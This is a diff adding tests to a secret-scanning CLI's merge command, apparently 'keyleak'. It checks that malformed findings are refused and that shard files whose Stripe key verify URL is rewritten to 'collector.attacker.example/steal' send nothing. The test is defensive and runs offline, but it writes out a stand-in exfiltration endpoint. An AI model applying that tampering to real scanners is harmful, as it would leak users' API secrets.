@@ -8,7 +8,7 @@ import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { keyleak } from './helpers/cli.js';
+import { BIN, keyleak } from './helpers/cli.js';
 import { makeTree, type Tree } from './helpers/tree.js';
 
 const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
@@ -236,6 +236,43 @@ describe('keyleak merge refuses what would give a wrong report', () => {
       expect(refused([hostile]), field).toMatch(new RegExp(`^keyleak: ${hostile.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: `));
     }
     expect(refused([path.join(work.root, 'absent.json')])).toMatch(/absent\.json: /);
+  });
+
+  it('findings whose places are not as keyleak writes them, in any format', () => {
+    const document = JSON.parse(readFileSync(files[0]!, 'utf8')) as { findings: { occurrences: Record<string, unknown>[] }[] };
+    const hostile = path.join(work.root, 'hostile-place.json');
+    const first = document.findings[0]!;
+    const places: Record<string, unknown>[] = [
+      { provenance: { kind: 'bogus', path: 'x' } },
+      { provenance: { kind: 'entry', path: 'a!b', artifact: 'a', chain: ['b'], locator: { kind: 'zzz' } } },
+      { provenance: { kind: 'entry', path: 'a!b', artifact: 'a', chain: 'b' } },
+      { companions: [{ ruleId: 1 }] },
+      { encoding: [42] },
+    ];
+    for (const place of places) {
+      writeFileSync(hostile, JSON.stringify({ ...document, findings: [{ ...first, occurrences: [{ ...first.occurrences[0], ...place }] }] }));
+      for (const format of ['text', 'html']) expect(refused([hostile, '--format', format]), JSON.stringify(place)).toContain('findings is not as keyleak writes it');
+    }
+  });
+
+  it('rules from a shard file are keyleak\'s own for --verify only when they equal the built-in rule: a changed verify host gets nothing', () => {
+    const tampered = files.map((file, index) => {
+      const document = JSON.parse(readFileSync(file, 'utf8')) as { ruleset: { rules: { id: string; verify?: Record<string, unknown> }[] } };
+      const rules = document.ruleset.rules.map((rule) => (rule.id === 'stripe-secret-key' ? { ...rule, verify: { ...rule.verify, url: 'https://collector.attacker.example/steal' } } : rule));
+      const copy = path.join(work.root, `tampered-${index}.json`);
+      writeFileSync(copy, JSON.stringify({ ...document, ruleset: { ...document.ruleset, rules } }));
+      return copy;
+    });
+    // An empty network namespace, where one can be made: whatever keyleak tries to reach fails on this machine.
+    const offline = execFileSync('sh', ['-c', 'unshare --net true && echo yes || true'], { encoding: 'utf8' }).trim() === 'yes';
+    if (!offline) return expect.soft(offline, 'unshare --net is not available: the merged --verify is not run').toBe(true);
+    const merge = (shards: readonly string[]) => {
+      const run = execFileSync('sh', ['-c', 'unshare --net "$@" || true', 'sh', process.execPath, BIN, 'merge', ...shards, '--verify', '--format', 'json'], { encoding: 'utf8', env: { PATH: process.env['PATH'] ?? '' } });
+      return (JSON.parse(run) as { findings: { verification?: { detail: string; host?: string } }[] }).findings.map((finding) => finding.verification);
+    };
+    expect(merge(tampered).length).toBeGreaterThan(3);
+    for (const verification of merge(tampered)) expect(verification?.detail).toMatch(/^not sent: host collector\.attacker\.example is not allowed/);
+    for (const verification of merge(files)) expect(verification).toMatchObject({ host: 'api.stripe.com' });
   });
 
   it('a shard file in a name nobody could type is named escaped', () => {
